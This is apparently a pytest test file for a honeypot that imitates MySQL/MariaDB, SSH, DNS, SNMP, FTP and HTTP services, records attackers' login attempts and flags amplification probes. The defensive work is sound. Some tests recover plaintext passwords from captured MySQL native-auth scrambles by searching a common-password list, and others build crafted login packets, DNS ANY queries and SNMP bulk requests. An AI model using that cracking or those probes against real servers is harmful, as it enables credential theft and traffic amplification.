def test_the_whole_command_short_cut_takes_the_plain_cases_only() -> None:
    assert whole_command(b"*2\r\n$4\r\nAUTH\r\n$5\r\nhello\r\n") == [b"AUTH", b"hello"]
    assert whole_command(_resp_array([b"SET", b"k", b"a\r\nb"])) is None  # a line end inside
    assert RespParser().feed(_resp_array([b"SET", b"k", b"a\r\nb"])) == [[b"SET", b"k", b"a\r\nb"]]
    assert whole_command(_resp_array([b"PING"]) * 2) is None  # two commands
    assert whole_command(b"*1\r\n$4\r\nPING\r\n"[:-1]) is None  # not all there
    assert whole_command(b"*" + b"9" * 5000 + b"\r\n$1\r\na\r\n") is None  # no int() of it
    assert whole_command(b"*1\r\n$" + b"1" * 5000 + b"\r\na\r\n") is None
    with pytest.raises(RespError):
        RespParser().feed(b"*1\r\n$" + b"1" * 5000 + b"\r\na\r\n")


def _login_packet(user: bytes, response: bytes, plugin: bytes = b"mysql_native_password") -> bytes:
    caps = 0x200 | 0x8000 | 0x80000 | 0x200000
    payload = struct.pack("<IIB", caps, 1 << 24, 33) + b"\x00" * 23 + user + b"\x00"
    payload += bytes([len(response)]) + response + plugin + b"\x00"
    return len(payload).to_bytes(3, "little") + b"\x01" + payload


def test_mysql_greeting_login_and_password_recovery(dialogues: dict[str, object]) -> None:
    dialogue = dialogues["mysql"]()  # type: ignore[operator]
    greeting = dialogue.start().reply
    assert greeting[4] == 10 and b"8.0.40\x00" in greeting and b"mysql_native_password" in greeting
    salt = b"\x22" * 20  # random_bytes gives 0x01 bytes, mapped into 0x21..0x7e
    step = dialogue.receive(_login_packet(b"root", native_scramble(b"toor", salt)))
    assert b"#28000Access denied for user 'root'@'192.0.2.7' (using password: YES)" in step.reply
    assert step.close and step.findings[0][1]["password"] == "toor"


def test_mysql_mariadb_persona_greets_and_denies_as_debian_mariadb() -> None:
    settings = MysqlSettings("5.5.5-10.11.19-MariaDB-0+deb12u1", frozenset(), lambda: 3)
    greeting = MysqlDialogue(settings, "::1").start().reply
    caps_at = greeting.index(b"\x00", 5) + 1 + 4 + 9
    low, charset, _, high = struct.unpack_from("<HBHH", greeting, caps_at)
    assert (low | high << 16, charset) == (0x81FFF7FE, 45)
    assert greeting[caps_at + 8 : caps_at + 18] == b"\x00" * 6 + b"\x1d\x00\x00\x00"
    local = MysqlDialogue(settings, "::1")
    local.start()
    assert (
        b"\xa2\x06#28000Access denied for user 'root'@'::1'"
        in local.receive(_login_packet(b"root", b"x" * 20)).reply
    )
    remote = MysqlDialogue(settings, "192.0.2.7")
    remote.start()
    assert b"\x15\x04#28000Access denied for user 'root'@'192.0.2.7' (using password: YES)" in (
        remote.receive(_login_packet(b"root", b"x" * 20)).reply
    )


@pytest.mark.parametrize(
    ("sent", "reset"),
    [
        (b"\x01\x00\x00\x01\x01", False),  # a bad handshake: Bad handshake, a FIN
        (b"\x01\x00\x00\x01\x01" + b"\x01\x00\x00\x02x", True),  # a packet behind it
        (b"\x00\x00\x00\x05", False),  # out of order, no payload: all of it was read
        (b"\x01\x00\x00\x00\x01", True),  # out of order: MariaDB reads no payload
    ],
)
def test_mysql_hangs_up_with_a_reset_when_mariadb_leaves_bytes_unread(
    sent: bytes, reset: bool
) -> None:
    """MariaDB reads a packet's header, then its payload, and acts before reading on; its
    close with bytes still unread is a reset (tests/fidelity/test_mysql.py diffs it)."""
    settings = MysqlSettings("5.5.5-10.11.19-MariaDB-0+deb12u1", frozenset(), lambda: 3)
    dialogue = MysqlDialogue(settings, "192.0.2.7")
    dialogue.start()
    step = dialogue.receive(sent)
    assert step.close and step.reset is reset


def test_mysql_switches_other_plugins_to_native(dialogues: dict[str, object]) -> None:
    dialogue = dialogues["mysql"]()  # type: ignore[operator]
    dialogue.start()
    step = dialogue.receive(_login_packet(b"sa", b"x" * 32, b"caching_sha2_password"))
    assert step.reply[4:5] == b"\xfe" and not step.close
    scramble = native_scramble(b"123456", b"\x22" * 20)
    final = dialogue.receive(len(scramble).to_bytes(3, "little") + b"\x03" + scramble)
    assert final.reply[3] == 4 and final.findings[0][1]["password"] == "123456"


def test_mysql_recovers_a_configured_password_for_its_own_user_only() -> None:
    """A configured login's password (in no common list) is recognised for its user; with a
    database the server says the password was right and the database refused (1044). The
    same scramble under another user name is not that user's password."""
    settings = MysqlSettings("8.0.40", frozenset({("app", "Tr0ub4dor&3")}), lambda: 3)
    salt_source = b"\x07" * 20
    settings = replace(settings, random_bytes=lambda n: salt_source[:n])
    salt = bytes(0x21 + b % 94 for b in salt_source)  # how the server maps random bytes
    scramble = native_scramble(b"Tr0ub4dor&3", salt)

    def login(user: bytes, database: bytes | None = None) -> tuple[bytes, object]:
        dialogue = MysqlDialogue(settings, "192.0.2.7")
        assert dialogue.start().reply.endswith(salt[8:] + b"\x00mysql_native_password\x00")
        packet = _login_packet(user, scramble)
        if database is not None:  # CLIENT_CONNECT_WITH_DB: the database before the plugin
            payload = bytearray(packet[4:])
            payload[0] |= 0x8
            at = payload.index(b"mysql_native_password")
            payload[at:at] = database + b"\x00"
            packet = len(payload).to_bytes(3, "little") + b"\x01" + bytes(payload)
        step = dialogue.receive(packet)
        return step.reply, step.findings[0][1]["password"]

    reply, password = login(b"app")
    assert password == "Tr0ub4dor&3"
    assert b"Access denied for user 'app'@'192.0.2.7' (using password: YES)" in reply
    reply, password = login(b"app", b"shop")
    assert password == "Tr0ub4dor&3" and b"\x14\x04#42000" in reply
    assert b"Access denied for user 'app'@'%' to database 'shop'" in reply
    reply, password = login(b"root")
    assert password is None and b"(using password: YES)" in reply


def test_mysql_password_search_hashes_as_hashlib_does(monkeypatch: pytest.MonkeyPatch) -> None:
    """CPython's own SHA1 where it was built, hashlib's otherwise: the same digests, and the
    search finds the same password through either."""
    data = bytes(range(40))
    assert mysql._sha1(data).digest() == hashlib.sha1(data).digest()
    salt = b"\x40" * 20
    common = mysql.MysqlSettings("8.0.40", frozenset(), lambda: 1).common
    scramble = native_scramble(b"letmein", salt)
    assert mysql.guess_password(scramble, salt, common) == "letmein"
    monkeypatch.setitem(sys.modules, "_sha1", None)  # an interpreter built without it
    fallback = mysql._plain_sha1()
    assert fallback is hashlib.sha1
    monkeypatch.setattr(mysql, "_sha1", fallback)
    assert mysql.guess_password(scramble, salt, common) == "letmein"
    assert mysql.guess_password(b"x" * 20, salt, common) is None


def test_mysql_salt_maps_every_random_byte_into_the_printable_range() -> None:
    """The greeting's salt: each random byte b as 0x21 + b % 94, as the server makes it."""
    for start in range(0, 256, 20):
        chunk = bytes(range(start, min(start + 20, 256))).ljust(20, b"\x00")

        def source(n: int, chunk: bytes = chunk) -> bytes:
            return chunk[:n]

        settings = MysqlSettings("8.0.40", frozenset(), lambda: 1, random_bytes=source)
        greeting = MysqlDialogue(settings, "192.0.2.7").start().reply
        salt = bytes(0x21 + b % 94 for b in chunk)
        assert salt[:8] in greeting and greeting.endswith(
            salt[8:] + b"\x00mysql_native_password\x00"
        )


def test_mysql_recognises_each_of_a_users_passwords_and_follows_the_settings() -> None:
    """A user with two configured passwords: either is recognised; settings replaced with
    other credentials recognise theirs, not the old ones."""
    salt = bytes(0x21 + b % 94 for b in b"\x01" * 20)
    settings = MysqlSettings(
        "8.0.40",
        frozenset({("app", "first-Pass-1"), ("app", "second-Pass-2")}),
        lambda: 1,
        random_bytes=lambda n: b"\x01" * n,
    )

    def recovered(settings: MysqlSettings, user: bytes, password: bytes) -> object:
        dialogue = MysqlDialogue(settings, "192.0.2.7")
        dialogue.start()
        step = dialogue.receive(_login_packet(user, native_scramble(password, salt)))
        return step.findings[0][1]["password"]

    assert recovered(settings, b"app", b"first-Pass-1") == "first-Pass-1"
    assert recovered(settings, b"app", b"second-Pass-2") == "second-Pass-2"
    other = replace(settings, credentials=frozenset({("ops", "third-Pass-3")}))
    assert recovered(other, b"ops", b"third-Pass-3") == "third-Pass-3"
    assert recovered(other, b"app", b"first-Pass-1") is None


def test_mysql_packet_parser_raises_only_its_error() -> None:
    with pytest.raises(MysqlPacketError):
        parse_handshake_response(b"\x00" * 10)
    with pytest.raises(MysqlPacketError):
        parse_handshake_response(struct.pack("<I", 0x200 | 0x200000) + b"\x00" * 28 + b"u\x00\xfd")


# SSH --------------------------------------------------------------------------------------------


def test_ssh_speaks_first_and_refuses_non_ssh_clients(dialogues: dict[str, object]) -> None:
    t = talk(dialogues["ssh"](), b"GET / HTTP/1.0\r\n\r\n")  # type: ignore[operator]
    assert t.replies[0].startswith(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
    assert t.closed and "client_version" not in t.detail


def test_kexinit_lists_and_hassh() -> None:
    lists = [b"curve25519-sha256,ext-info-c", b"ssh-ed25519", b"aes128-ctr", b"aes128-ctr",
             b"hmac-sha2-256", b"hmac-sha2-256", b"none", b"none", b"", b""]  # fmt: skip
    payload = b"\x00" * 16 + b"".join(struct.pack(">L", len(x)) + x for x in lists) + b"\x00" * 5
    parsed = parse_kexinit(payload)
    assert parsed["kex_algorithms"] == ["curve25519-sha256", "ext-info-c"]
    fingerprint, text = hassh(parsed)
    assert text == "curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha2-256;none"
    assert len(fingerprint) == 32
    with pytest.raises(ValueError, match="overruns"):
        parse_kexinit(b"\x00" * 16 + struct.pack(">L", 99))


# UDP --------------------------------------------------------------------------------------------


def _dns_query(name: str, qtype: int, edns: bool = True) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 1 if edns else 0) + labels
    query += struct.pack(">HH", qtype, 1)
    if edns:
        query += b"\x00" + struct.pack(">HHIH", 41, 4096, 0, 12) + b"\x00\x0a\x00\x08" + b"c" * 8
    return query


def test_dns_answers_as_large_as_the_udp_size_allows_then_truncates() -> None:
    dns = responders()["dns"]
    a = dns.respond(_dns_query("Example.NET", 1), "192.0.2.1")
    assert a.reply[3] & 0x0F == 0 and a.reply[7] == 1 and bytes([192, 0, 2, 10]) in a.reply
    plain = dns.respond(_dns_query("www.example.net", 28, edns=False), "192.0.2.1")
    assert not plain.reply[2] & 0x02 and plain.reply[7] == 1  # fits in 512: answered in full
    many = DnsResponder(parse_records([f"big.example.net=192.0.2.{i}" for i in range(40)]), 300)
    small = many.respond(_dns_query("big.example.net", 1, edns=False), "192.0.2.1")
    # As named: the records that fit in 512 bytes, and TC so that the client asks over TCP.
    assert small.reply[2] & 0x02 and 0 < small.reply[7] < 40 and len(small.reply) <= 512
    large = many.respond(_dns_query("big.example.net", 1), "192.0.2.1")  # EDNS 4096: 1232
    assert not large.reply[2] & 0x02 and large.reply[7] == 40
    outside = dns.respond(_dns_query("nothere.example.org", 1), "192.0.2.1")
    assert outside.reply[3] & 0x0F == 5 and outside.detail["open_resolver_probe"]  # REFUSED
    nx = dns.respond(_dns_query("nothere.example.net", 1), "192.0.2.1")
    assert nx.reply[3] & 0x0F == 3 and nx.reply[9] == 1  # NXDOMAIN, the SOA as authority
    anything = dns.respond(_dns_query("example.net", 255), "192.0.2.1")
    assert anything.detail["amplification_probe"] and anything.reply[7] == 3  # SOA, NS, A
    assert parse_query(_dns_query("a.b", 16)).qtype == 16
    status = struct.pack(">HHHHHH", 7, 0x1000, 0, 0, 0, 0)  # opcode STATUS, no question
    assert dns.respond(status, "192.0.2.1").reply[3] & 0x0F == 4  # NOTIMP, as BIND answers


def _snmp_get(
    community: bytes, oid: tuple[int, ...], pdu: int = 0xA0, value: bytes = b"\x05\x00"
) -> bytes:
    def tlv(tag: int, content: bytes) -> bytes:
        return bytes([tag, len(content)]) + content

    binding = tlv(0x30, tlv(0x06, encode_oid(oid)) + value)
    body = tlv(0x02, b"\x01") + tlv(0x02, b"\x00") + tlv(0x02, b"\x00") + tlv(0x30, binding)
    return tlv(0x30, tlv(0x02, b"\x01") + tlv(0x04, community) + tlv(pdu, body))


def test_snmp_answers_the_right_community_only() -> None:
    snmp = responders()["snmp"]
    sys_name = (1, 3, 6, 1, 2, 1, 1, 5, 0)
    # The shortest GET gets the value: answers are not shrunk to the request's size.
    tight = _snmp_get(b"public", sys_name)
    ok = snmp.respond(tight, "192.0.2.1")
    assert ok.reply.endswith(b"\x04\x05web01") and len(ok.reply) > len(tight)
    wrong = snmp.respond(_snmp_get(b"private", sys_name), "192.0.2.1")
    assert wrong.reply == b"" and wrong.findings[0][1]["username"] == "private"
    bulk = snmp.respond(_snmp_get(b"public", (1, 3, 6), pdu=0xA5), "192.0.2.1")
    assert bulk.detail["amplification_probe"] is True


def test_ftp_weak_login_then_anonymous_is_refused() -> None:
    t = talk(FtpDialogue(FtpSettings(b"220 x", WEAK)), b"USER anonymous\r\nPASS a@b\r\n")
    assert b"530 Login incorrect." in t.output


def test_http_dialogue_answers_options_and_unknown_methods() -> None:
    probe = b"OPTIONS / HTTP/1.1\r\nHost: x\r\n\r\nBREW / HTTP/1.1\r\nHost: x\r\n\r\n"
    t = talk(HttpDialogue(HTTP, now), probe)
    assert b"Allow: HEAD,GET,POST,OPTIONS" in t.output and b"501 Not Implemented" in t.output
